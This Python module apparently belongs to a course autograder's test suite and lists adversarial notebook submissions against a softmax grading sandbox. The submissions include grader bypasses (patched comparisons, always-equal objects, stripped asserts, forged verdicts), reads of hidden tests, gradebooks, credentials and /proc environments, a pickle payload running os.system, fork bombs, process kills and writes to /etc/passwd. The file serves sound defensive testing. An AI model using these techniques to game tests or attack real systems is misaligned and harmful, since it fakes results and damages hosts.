"""The attacks. Each says what it tries, what it puts in the place of `softmax`, and what it deserves.

`@ROOT@` in a source stands for the course's folder and `@PLACES@` for a list of folders worth searching: an attacker is
assumed to know where everything lies.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from textwrap import dedent

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_output

from course_lib.grading.notebooks import grade_id

from .fort import DOUBLE, HONEST_PART, NAME, NEIGHBOUR, POINTS, SOFTMAX

# Of the right shape, so that a bent comparison is all that it takes.
JUNK = "def softmax(x, axis=-1):\n    return x * 0.0"


@dataclass(frozen=True)
class Attack:
    """One submission: `softmax` is the answer cell, `before` and `after` are cells around it.

    `notebook` bends the notebook, `file` what lies on the disk: it gets the file's path and the course's folder.
    """

    name: str
    tries: str
    softmax: str = JUNK
    before: str = ""
    after: str = ""
    double: str = DOUBLE
    deserves: float = HONEST_PART
    notebook: Callable[[NotebookNode], None] | None = None
    file: Callable[[Path, Path], None] | None = None


TABLE: list[Attack] = []


def attack(name: str, tries: str, softmax: str = JUNK, **more: object) -> None:
    texts = {k: dedent(v).strip("\n") if isinstance(v, str) else v for k, v in more.items()}
    TABLE.append(Attack(name, tries, dedent(softmax).strip("\n"), **texts))  # type: ignore[arg-type]


# --- honest work, so that a wall that lets nobody in is noticed too ----------------------------------------------

attack("honest", "nothing: a right solution", SOFTMAX, deserves=10.0)
attack(
    "hard-coded example",
    "return the visible test's answer",
    deserves=6.0,
    softmax="""
    def softmax(x, axis=-1):
        return np.full(4, 0.25)""",
)

# --- bending the comparison --------------------------------------------------------------------------------------

attack(
    "patched allclose",
    "make every comparison succeed",
    before="""
    np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
    np.testing.assert_allclose = lambda *a, **k: None""",
)
attack(
    "always-equal object",
    "an object that agrees with everything",
    """
    class Yes:
        shape = (4,)
        def _yes(self, *args, **kwargs): return True
        __eq__ = __ne__ = __lt__ = __gt__ = __le__ = __ge__ = __bool__ = __call__ = _yes
        def __array__(self, *args, **kwargs): return np.full(4, 0.25)
        def __float__(self): return 0.25
        def __getattr__(self, name): return self
    def softmax(x, axis=-1):
        return Yes()""",
)
attack(
    "__array_function__",
    "an array that answers NumPy's questions itself",
    """
    class Liar(np.ndarray):
        def __array_function__(self, func, types, args, kwargs): return True
        def __array_ufunc__(self, *args, **kwargs): return np.True_
        def __eq__(self, other): return True
        def all(self, *args, **kwargs): return True
    def softmax(x, axis=-1):
        return np.zeros(np.shape(x)).view(Liar)""",
)
attack(
    "list subclass",
    "a list whose items change with every look",
    """
    class Shifty(list):
        def __eq__(self, other): return True
        def __iter__(self): return iter([0.25] * 4)
    class Agreeable(float):
        def __eq__(self, other): return True
        def __rsub__(self, other): return 0.0
        def __sub__(self, other): return 0.0
    def softmax(x, axis=-1):
        return Shifty([Agreeable(1)])""",
    deserves=6.0,
)  # what crosses is a list of four quarters, the visible answer
attack(
    "patched builtins",
    "replace all, abs, isinstance, AssertionError and import",
    before="""
    import builtins
    builtins.all = builtins.any = builtins.isinstance = lambda *a, **k: True
    builtins.abs = lambda x: 0.0
    builtins.AssertionError = type('Nothing', (Exception,), {})""",
)
attack(
    "fake tests module",
    "let the hidden test import a judge of the student's own",
    before="""
    import sys, types
    fake = types.ModuleType('tests.hidden'); fake.judge = lambda *a, **k: True
    parent = types.ModuleType('tests'); parent.hidden = fake
    sys.modules['tests'], sys.modules['tests.hidden'] = parent, fake""",
)
attack(
    "fake numpy",
    "put another module in numpy's place",
    before="""
    import sys
    class Fake:
        def __getattr__(self, name): return lambda *a, **k: True
    sys.modules['numpy'] = np = Fake()""",
)
attack(
    "rebound np",
    "rebind the name that the test cell uses",
    before="""
    class Fake:
        zeros = staticmethod(lambda n: n)
        allclose = staticmethod(lambda *a, **k: True)
        shape = staticmethod(lambda x: (4,))
    np = Fake()""",
)
attack(
    "argument zeroed",
    "change the input so that a constant is right",
    """
    def softmax(x, axis=-1):
        x[...] = 0
        return np.full(x.shape, 1 / x.shape[axis])""",
    deserves=6.0,
)

# --- bending the shell -------------------------------------------------------------------------------------------

attack(
    "input transformer",
    "rewrite test cells before they are parsed",
    before="""
    ip = get_ipython()
    ip.input_transformers_cleanup.append(lambda lines: ['pass\\n'] if any('softmax' in l for l in lines) else lines)
    """,
)
attack(
    "AST transformer",
    "strike out every assert",
    before="""
    import ast
    class Strike(ast.NodeTransformer):
        def visit_Assert(self, node): return ast.Pass()
    get_ipython().ast_transformers.append(Strike())""",
)
attack(
    "patched run_code",
    "make the shell run nothing",
    before="""
    shell = type(get_ipython())
    async def nothing(self, *args, **kwargs): return False
    shell.run_code = nothing""",
    deserves=HONEST_PART,
)
attack(
    "displayhook",
    "show a score from inside the function",
    """
    def softmax(x, axis=-1):
        get_ipython().displayhook(7.0)
        import os; os._exit(0)""",
)
attack(
    "traceback hook",
    "hide that a test failed",
    before="""
    get_ipython().set_custom_exc((BaseException,), lambda *a, **k: [])
    get_ipython().showtraceback = lambda *a, **k: None""",
)
attack(
    "patched excepthook",
    "swallow exceptions everywhere",
    before="""
    import sys
    sys.excepthook = lambda *a: None
    sys.unraisablehook = lambda *a: None""",
)

# --- spying inside the process -----------------------------------------------------------------------------------

attack(
    "frame walk",
    "find the expected value in the caller's variables",
    """
    import sys
    def softmax(x, axis=-1):
        frame = sys._getframe()
        while frame:
            for name in ('want', 'expected', 'SECRET'):
                if name in frame.f_locals: return frame.f_locals[name]
                if name in frame.f_globals: return frame.f_globals[name]
            frame = frame.f_back
        return 'nothing found'""",
)
attack(
    "heap walk",
    "look through every living object for tests and references",
    before="""
    import gc, types
    found = []
    for thing in gc.get_objects():
        if isinstance(thing, types.FunctionType) and thing.__name__ == 'softmax': found.append(thing)
        if isinstance(thing, dict):
            for key, value in list(thing.items()):
                if isinstance(value, str) and 'canary-' + 'of' in value: print('found', value)
                if isinstance(key, str) and key.startswith('canary-' + 'of'): print('found', key)
    print('functions', found)""",
    softmax="""
    def softmax(x, axis=-1):
        return found[0](x, axis) if found else 'nothing found'""",
)
attack(
    "trace function",
    "watch every call and copy what the tests compute",
    before="""
    import sys
    seen = []
    def tracer(frame, event, arg):
        if event == 'return': seen.append(arg)
        return tracer
    sys.settrace(tracer); sys.setprofile(tracer)""",
    softmax="""
    def softmax(x, axis=-1):
        return next((s for s in seen if isinstance(s, np.ndarray)), 'nothing seen')""",
)
attack(
    "memory scan",
    "search the process's own memory for the tests' text",
    before="""
    needle = b'canary-' + b'of-the'
    hits = []
    try:
        with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as memory:
            for line in maps:
                if 'rw' not in line or 'vv' in line: continue
                lo, hi = (int(n, 16) for n in line.split()[0].split('-'))
                memory.seek(lo)
                block = memory.read(min(hi - lo, 1 << 26))
                at = block.find(needle)
                while at >= 0:
                    hits.append(block[at:at + 30].decode('latin1')); at = block.find(needle, at + 1)
    except OSError as error:
        print(error)
    print([h for h in hits if h[13:16].isalpha()])""",
)
attack(
    "wire code patched",
    "answer the checker's questions in the runner's stead",
    before="""
    import sys
    runner = sys.modules.get('inside.runner')
    if runner:
        runner.Session.do_call = lambda self, m, b: self.send({'value': True})""",
)

# --- keeping hidden inputs ---------------------------------------------------------------------------------------

attack(
    "echo by exception",
    "raise the input as a message",
    """
    def softmax(x, axis=-1):
        raise ValueError(str(np.asarray(x).tolist()))""",
)
attack(
    "echo by shape message",
    "forge one of NumPy's messages",
    """
    def softmax(x, axis=-1):
        a, b = int(np.ravel(x)[0]), int(np.abs(np.ravel(x)[-1]) * 1000)
        raise ValueError(f'operands could not be broadcast together with shapes ({a},{b}) ({b},{a})')""",
)
attack(
    "echo by class name",
    "raise an exception named after the input",
    """
    def softmax(x, axis=-1):
        raise type('E' + str(int(np.ravel(x)[0])), (ValueError,), {})()""",
)
attack(
    "echo by return",
    "return the input as text, where a message may repeat it",
    """
    def softmax(x, axis=-1):
        return str(np.asarray(x).tolist())""",
)
attack(
    "echo by type name",
    "return an object of a class named after the input",
    """
    def softmax(x, axis=-1):
        return type('T' + str(int(np.ravel(x)[0])), (), {})()""",
)
attack(
    "echo by shape",
    "return an empty array whose shape is the input",
    """
    def softmax(x, axis=-1):
        return np.zeros((int(abs(np.ravel(x)[0])), 0))""",
)
attack(
    "kept in memory",
    "remember inputs and print them in a later cell",
    """
    KEPT = []
    def softmax(x, axis=-1):
        KEPT.append(np.asarray(x).tolist())
        return 'junk'""",
    after="print(KEPT)",
)
attack(
    "kept in a file",
    "write inputs to a file and print them in a later cell",
    """
    def softmax(x, axis=-1):
        open('/tmp/kept', 'a').write(str(np.asarray(x).tolist()))
        return 'junk'""",
    after="""
    import os
    print(open('/tmp/kept').read() if os.path.exists('/tmp/kept') else 'nothing')""",
)
attack(
    "printed",
    "print inputs while being tested",
    """
    def softmax(x, axis=-1):
        import sys, os
        print(np.asarray(x).tolist()); print(np.asarray(x).tolist(), file=sys.stderr)
        os.write(1, str(np.asarray(x).tolist()).encode()); os.write(2, str(np.asarray(x).tolist()).encode())
        return 'junk'""",
)
attack(
    "seed guessed",
    "draw the hidden inputs in advance",
    before="""
    import os
    print({k: v for k, v in os.environ.items() if 'SEED' in k and 'HASH' not in k})""",
)

# --- reading what is not the student's ---------------------------------------------------------------------------

attack(
    "tests read",
    "open the hidden tests",
    before="""
    import glob
    for path in glob.glob('@ROOT@/**/*.py', recursive=True) + ['@ROOT@/tests/hidden/a1_fort.py']:
        try: print(open(path).read())
        except OSError as error: print(error)""",
)
attack(
    "tests imported",
    "import the hidden tests",
    before="""
    import sys
    sys.path.insert(0, '@ROOT@')
    try:
        import tests.hidden.a1_fort as t; print(t.SECRET)
    except Exception as error: print(type(error))""",
)
attack(
    "gradebook read",
    "open the gradebook, and raise every score in it",
    before="""
    import sqlite3
    try:
        book = sqlite3.connect('@ROOT@/_grading/gradebook.db')
        for (table,) in book.execute("select name from sqlite_master where type = 'table'").fetchall():
            print(table, book.execute(f'select * from "{table}"').fetchall())
        book.execute('update grade set manual_score = 4'); book.commit()
    except Exception as error: print(error)""",
)
attack(
    "other submissions read",
    "copy from a neighbour",
    before="""
    import glob
    for path in glob.glob('@ROOT@/_grading/submitted/**/*.ipynb', recursive=True) + [
        '@ROOT@/_grading/submitted/bob/a1-fort/a1-fort.ipynb']:
        try: print(open(path).read())
        except OSError as error: print(error)""",
)
attack(
    "solution read",
    "open the instructor's notebook",
    before="""
    try: print(open('@ROOT@/solutions/a1-fort/a1-fort.ipynb').read())
    except OSError as error: print(error)""",
)
attack(
    "home read",
    "look for credentials",
    before="""
    import os, glob, pathlib
    for folder in {os.path.expanduser('~'), '@ROOT@/home', '/root', '/home'}:
        for path in glob.glob(folder + '/.*') + [folder + '/.netrc']:
            try: print(open(path).read()[:1000])
            except OSError as error: print(error)""",
)
attack(
    "environment read",
    "print the environment, own and others'",
    before="""
    import os, glob
    print(dict(os.environ))
    for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
        try: print(open(path, 'rb').read()[:5000])
        except OSError as error: print(error)""",
)
attack(
    "symbolic links",
    "reach the tests by a link",
    before="""
    import os
    for target, name in (('@ROOT@', 'a'), ('/proc/1/root@ROOT@', 'b'), ('../../../../../..@ROOT@', 'c')):
        try:
            os.symlink(target, name)
            print(open(name + '/tests/hidden/a1_fort.py').read())
        except OSError as error: print(error)""",
)
attack(
    "proc games",
    "reach other processes' files and memory through /proc",
    before="""
    import glob, os
    for pattern in ('/proc/*/root@ROOT@/tests/hidden/a1_fort.py', '/proc/*/cwd/tests/hidden/a1_fort.py',
                    '/proc/*/fd/*', '/proc/*/mem', '/proc/*/map_files/*'):
        for path in glob.glob(pattern)[:300]:
            if '/fd/0' in path or os.path.realpath(path).startswith(('/dev', '/proc/self')): continue
            try:
                if not os.path.isfile(path): continue
                print(open(path, 'rb').read(5000))
            except OSError: pass""",
)
attack(
    "whole disk searched",
    "look into every readable file for a secret",
    before="""
    import os
    needle = b'canary-' + b'of-the'
    for place in @PLACES@:
        for top, folders, files in os.walk(place):
            for name in files:
                path = os.path.join(top, name)
                try:
                    if os.path.getsize(path) < 50_000 and needle in (data := open(path, 'rb').read()):
                        print(path, data[data.find(needle):][:40])
                except OSError: pass""",
)

# --- ready-made answers ------------------------------------------------------------------------------------------

attack(
    "reference imported",
    "hand in the library's own function",
    """
    from course_lib.functional import softmax""",
)
attack(
    "reference through its module",
    "find it under another name",
    """
    import course_lib.functional as f
    softmax = getattr(f, 'softmax', None) or vars(f).get('soft' + 'max')
    import course_lib.recurrent, course_lib.recurrent.losses as l
    softmax = softmax or getattr(l, 'softmax', None)""",
)
attack(
    "scipy's softmax",
    "use a package that has it",
    """
    from scipy.special import softmax""",
)
attack(
    "torch's softmax",
    "use a framework that has it",
    """
    import torch
    def softmax(x, axis=-1):
        return torch.softmax(torch.as_tensor(x), axis).numpy()""",
)
attack(
    "every package path",
    "extend the path by every site-packages there is",
    """
    import sys, glob
    for place in @PLACES@:
        sys.path += [place, *glob.glob(place + '/**/site-packages', recursive=True)]
    try: from scipy.special import softmax
    except ImportError: from course_lib.functional import softmax""",
)
attack(
    "compiled copy",
    "load a .pyc of the reference",
    """
    import glob, importlib.util, marshal
    softmax = None
    for place in @PLACES@:
        for path in glob.glob(place + '/**/functional*.pyc', recursive=True):
            try:
                space = {}
                exec(marshal.loads(open(path, 'rb').read()[16:]), space)
                softmax = softmax or space.get('softmax')
            except Exception: pass""",
)
attack(
    "source copy",
    "run any file that defines it",
    """
    import os
    softmax = None
    for place in @PLACES@:
        for top, folders, files in os.walk(place):
            for name in files:
                if not name.endswith('.py') or softmax: continue
                try: text = open(os.path.join(top, name)).read()
                except (OSError, UnicodeDecodeError): continue
                if '\\ndef softmax(' in text:
                    space = {}
                    try: exec(text, space); softmax = space['softmax']
                    except Exception: pass""",
)
attack(
    "zip and wheel",
    "import it from an archive",
    """
    import glob, sys
    for place in @PLACES@:
        sys.path += [p for p in glob.glob(place + '/**/*', recursive=True) if p.endswith(('.whl', '.zip', '.egg'))]
    from scipy.special import softmax""",
)
attack(
    "shared library",
    "call a framework's library through ctypes",
    """
    import ctypes, glob
    libraries = [p for place in @PLACES@ for p in glob.glob(place + '/**/libtorch*.so*', recursive=True)]
    library = ctypes.CDLL(libraries[0])
    def softmax(x, axis=-1):
        return library.softmax""",
)
attack(
    "allow-list edited",
    "ask for more packages in the notebook's own metadata",
    """
    from scipy.special import softmax""",
    notebook=lambda nb: nb.metadata.update(course={"allow": ["numpy", "scipy", "torch"]}),
)
attack(
    "package installed",
    "fetch one",
    """
    import subprocess, sys
    subprocess.run([sys.executable, '-m', 'pip', 'install', 'scipy'], capture_output=True, timeout=5)
    from scipy.special import softmax""",
)

# --- the wire ----------------------------------------------------------------------------------------------------

_FDS = """
    import os, json, struct, socket
    def frames(data):
        for fd in range(3, 64):
            try: os.write(fd, data)
            except OSError: pass
    def frame(message):
        text = json.dumps({'m': message, 'b': []}).encode()
        return struct.pack('!I', len(text)) + text
"""
attack(
    "forged answer",
    "write an answer to the protocol's descriptor before the real one",
    before=_FDS,
    softmax="""
    def softmax(x, axis=-1):
        for _ in range(3): frames(frame({'value': True}))
        os._exit(0)""",
)
attack(
    "forged verdict",
    "claim to have passed",
    before=_FDS,
    softmax="""
    def softmax(x, axis=-1):
        frames(frame({'tests': {'softmax-hidden': ['passed', '']}, 'cell': {'status': 'ok'}, 'ready': True}))
        return 'junk'""",
)
attack(
    "oversize frame",
    "announce four gigabytes",
    before=_FDS,
    softmax="""
    def softmax(x, axis=-1):
        frames(struct.pack('!I', 0xFFFFFFFF) + b'x' * 1000)
        return 'junk'""",
)
attack(
    "broken frames",
    "send what is no JSON, no UTF-8, no frame",
    before=_FDS,
    softmax="""
    def softmax(x, axis=-1):
        frames(struct.pack('!I', 9) + b'[[[[[[[[[' + os.urandom(3000))
        return 'junk'""",
)
attack(
    "half a frame",
    "begin an answer and never end it",
    before=_FDS,
    softmax="""
    def softmax(x, axis=-1):
        frames(struct.pack('!I', 1000) + b'{')
        import time; time.sleep(60)""",
)
attack(
    "deep nesting",
    "return lists ten thousand deep",
    """
    def softmax(x, axis=-1):
        deep = []
        for _ in range(10_000): deep = [deep]
        return deep""",
)
attack(
    "huge result",
    "return more than memory holds",
    """
    def softmax(x, axis=-1):
        return np.broadcast_to(np.float64(0.25), (1 << 20, 1 << 20))""",
)
attack(
    "endless generator",
    "return items for ever",
    """
    def softmax(x, axis=-1):
        while True: yield 0.25""",
)
attack(
    "pickle",
    "return an object that runs code where it is unpickled",
    """
    class Bomb:
        def __reduce__(self): return (__import__('os').system, ('touch @ROOT@/pwned',))
    def softmax(x, axis=-1):
        return Bomb()""",
)
attack(
    "object array",
    "return an array of objects",
    """
    class Bomb:
        def __reduce__(self): return (__import__('os').system, ('touch @ROOT@/pwned',))
        def __eq__(self, other): return True
    def softmax(x, axis=-1):
        return np.array([Bomb()] * 4, dtype=object)""",
)

# --- breaking things ---------------------------------------------------------------------------------------------

attack("os._exit", "end the process with success", "def softmax(x, axis=-1):\n    import os; os._exit(0)")
attack("sys.exit", "end politely", "def softmax(x, axis=-1):\n    import sys; sys.exit(0)")
attack("SystemExit", "raise it", "def softmax(x, axis=-1):\n    raise SystemExit(0)")
attack("exit()", "call IPython's", "def softmax(x, axis=-1):\n    get_ipython().ask_exit(); exit()")
attack("KeyboardInterrupt", "pretend to be interrupted", "def softmax(x, axis=-1):\n    raise KeyboardInterrupt")
attack("crash", "read from address zero", "def softmax(x, axis=-1):\n    import ctypes; ctypes.string_at(0)")
attack("exit in a cell", "end the process while the cells run", before="import os; os._exit(0)")
attack("endless loop", "never return", "def softmax(x, axis=-1):\n    while True: pass")
attack(
    "endless loop, deaf",
    "never return, and ignore interrupts",
    """
    def softmax(x, axis=-1):
        import signal; signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True:
            try:
                while True: pass
            except BaseException: pass""",
)
attack("endless recursion", "exhaust the stack", "def softmax(x, axis=-1):\n    return softmax(x)")
attack("waits for input", "ask the grader a question", "def softmax(x, axis=-1):\n    return input()")
attack(
    "signals",
    "kill the parent, the first process, everybody",
    """
    def softmax(x, axis=-1):
        import os, signal
        for pid in (os.getppid(), 1, -1):
            for number in (signal.SIGTERM, signal.SIGKILL):
                try: os.kill(pid, number)
                except OSError: pass
        return 'junk'""",
)
attack(
    "fork bomb",
    "fork without end",
    before="""
    import os, time
    for _ in range(3000):
        try:
            if os.fork() == 0: time.sleep(600); os._exit(0)
        except OSError as error: print(type(error)); break""",
)
attack(
    "process left behind",
    "leave a daemon",
    before="""
    import subprocess
    subprocess.Popen(['sleep', '98765'], start_new_session=True)
    import os
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0: os.execvp('sleep', ['sleep', '98765'])
        os._exit(0)""",
)
attack(
    "thread left behind",
    "keep a thread busy",
    before="""
    import threading
    def busy():
        while True: pass
    threading.Thread(target=busy, daemon=True).start()""",
)
attack(
    "memory flood",
    "take all memory",
    """
    def softmax(x, axis=-1):
        hoard = []
        while True: hoard.append(bytearray(b'x' * (64 << 20)))""",
)
attack(
    "memory flood by many",
    "take all memory in many processes",
    before="""
    import os, time
    for _ in range(12):
        if os.fork() == 0:
            try: hoard = bytearray(b'x' * (700 << 20)); time.sleep(600)
            finally: os._exit(0)
    time.sleep(3)""",
)
attack(
    "disk flood",
    "fill the disk",
    before="""
    import os
    written = 0
    try:
        for name in range(100):
            with open(f'flood{name}', 'wb') as file:
                while file.tell() < 60 << 20: written += file.write(b'x' * (1 << 20))
    except OSError as error: print(error)
    print('wrote', written >> 20, 'MB')""",
)
attack(
    "output flood",
    "print a gigabyte",
    before="""
    for _ in range(2000): print('x' * 500_000)""",
)
attack(
    "writes outside",
    "write wherever it can",
    before="""
    import os
    for path in ('@ROOT@/pwned', '/pwned', '/usr/pwned', '/course/lib/course_lib/functional.py', '/python/pwned',
                 '/etc/passwd', '/dev/pwned', '@ROOT@/tests/hidden/a1_fort.py', '/var/tmp/pwned', '/course/pwned'):
        try: open(path, 'a').write('pwned'); print('wrote', path)
        except OSError as error: pass""",
)
attack(
    "network",
    "call home",
    before="""
    import socket
    for family, address in ((socket.AF_INET, ('127.0.0.1', 22)), (socket.AF_INET6, ('::1', 22)),
                            (socket.AF_UNIX, '\\0canary')):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                s = socket.socket(family, kind); s.settimeout(1); s.connect(address); print('connected', family)
            except OSError as error: print(error)""",
)
attack(
    "system calls",
    "mount, trace, make namespaces",
    before="""
    import ctypes, os
    c = ctypes.CDLL(None, use_errno=True)
    print('unshare', c.unshare(0x10000000), 'mount', c.mount(b'none', b'/tmp', b'tmpfs', 0, None),
          'ptrace', c.ptrace(16, os.getppid(), 0, 0), 'chroot', c.chroot(b'/tmp'), 'setuid', c.setuid(0))""",
)
attack(
    "sandbox's server",
    "reach the process that all submissions are forked from",
    before="""
    import os, signal
    for pid in range(1, 400):
        if pid != os.getpid():
            try: os.kill(pid, signal.SIGKILL)
            except OSError: pass""",
)
attack(
    "atexit",
    "run code at the end",
    before="""
    import atexit, os
    atexit.register(lambda: print('late'))
    class Late:
        def __del__(self): print('late'); os._exit(3)
    late = Late()""",
)
attack(
    "shadowed module",
    "put a numpy.py beside the notebook",
    before="""
    open('numpy.py', 'w').write('allclose = lambda *a, **k: True')
    import sys
    sys.modules.pop('numpy', None); sys.path.insert(0, '.')
    import importlib; importlib.invalidate_caches()
    import numpy as np""",
)

attack(
    "spoiled arguments",
    "change the inputs that the test will compute its answer from",
    SOFTMAX,
    double="""
    def double(xs):
        if len(xs) > 1:
            xs[:] = [0.0] * len(xs)
        return [0.0] * len(xs) if len(xs) > 1 else [2.0]""",
    deserves=10.0 - POINTS["double-hidden"],
)

# --- the notebook itself -----------------------------------------------------------------------------------------


def _find(nb: NotebookNode, name: str) -> NotebookNode:
    return next(cell for cell in nb.cells if grade_id(cell) == name)


def _more_points(nb: NotebookNode) -> None:
    for cell in nb.cells:
        cell.metadata.get("nbgrader", {}).update(points=1000, locked=False)


def _tests_emptied(nb: NotebookNode) -> None:
    for name in ("softmax-visible", "softmax-hidden"):
        _find(nb, name).source = "pass"


def _tests_deleted(nb: NotebookNode) -> None:
    nb.cells = [c for c in nb.cells if not (grade_id(c) or "").endswith(("visible", "hidden"))]


def _tests_as_answers(nb: NotebookNode) -> None:
    for name in ("softmax-visible", "softmax-hidden"):
        _find(nb, name).metadata["nbgrader"].update(solution=True, grade=False)


def _double_renamed(nb: NotebookNode) -> None:
    """Two cells with one id, one of them before the tests of the other."""
    copy = new_code_cell("def softmax(x, axis=-1):\n    return 'junk'")
    copy.metadata["nbgrader"] = dict(_find(nb, "double-visible").metadata["nbgrader"])
    nb.cells.insert(2, copy)


def _outputs_forged(nb: NotebookNode) -> None:
    for cell in nb.cells:
        cell.outputs = [new_output("execute_result", data={"text/plain": "7.0"})]


def _imports_bent(nb: NotebookNode) -> None:
    _find(nb, "imports").source = "class np:\n    zeros = allclose = staticmethod(lambda *a, **k: True)"


attack("points edited", "give each test a thousand points", notebook=_more_points)
attack("tests emptied", "hand in empty test cells", notebook=_tests_emptied)
attack("tests deleted", "hand in no test cells", notebook=_tests_deleted)
attack("tests retyped", "declare the tests to be answers", notebook=_tests_as_answers)
attack("cell duplicated", "hand in a test cell twice", notebook=_double_renamed)
attack("outputs forged", "hand in the outputs of a pass", notebook=_outputs_forged)
attack("import cell bent", "change the locked import cell", notebook=_imports_bent)


# --- the file that is handed in ----------------------------------------------------------------------------------


def _no_unicode(nb: NotebookNode) -> None:
    nb.metadata["\ud800"] = "\udfff"
    nb.cells.append(new_code_cell("s = '\ud800'"))


def _link_to_solution(path: Path, root: Path) -> None:
    path.unlink()
    path.symlink_to(root / "solutions" / NAME / f"{NAME}.ipynb")


def _link_to_neighbour(path: Path, root: Path) -> None:
    path.unlink()
    path.symlink_to(root / NEIGHBOUR)


def _linked_folder(path: Path, root: Path) -> None:
    path.unlink()
    path.parent.rmdir()
    path.parent.symlink_to((root / NEIGHBOUR).parent)


def _linked_timestamp(path: Path, root: Path) -> None:
    (path.parent / "timestamp.txt").symlink_to(root / "home" / ".netrc")


def _nested(path: Path, root: Path) -> None:
    path.write_text('{"nbformat": 4, "metadata": ' + "[" * 100_000 + "]" * 100_000 + "}", encoding="utf-8")


attack("lone surrogate", "stop the batch when it is recorded", SOFTMAX, notebook=_no_unicode, deserves=10.0)
attack("deep JSON", "break what reads the file", file=_nested, deserves=0.0)
attack("symlinked notebook", "hand in a link to the solution", file=_link_to_solution, deserves=0.0)
attack("symlinked neighbour", "hand in a link to a neighbour's work", file=_link_to_neighbour, deserves=0.0)
attack("symlinked folder", "hand in a link to a neighbour's folder", file=_linked_folder, deserves=0.0)
attack("symlinked timestamp", "have a file read out as a date", SOFTMAX, file=_linked_timestamp, deserves=10.0)
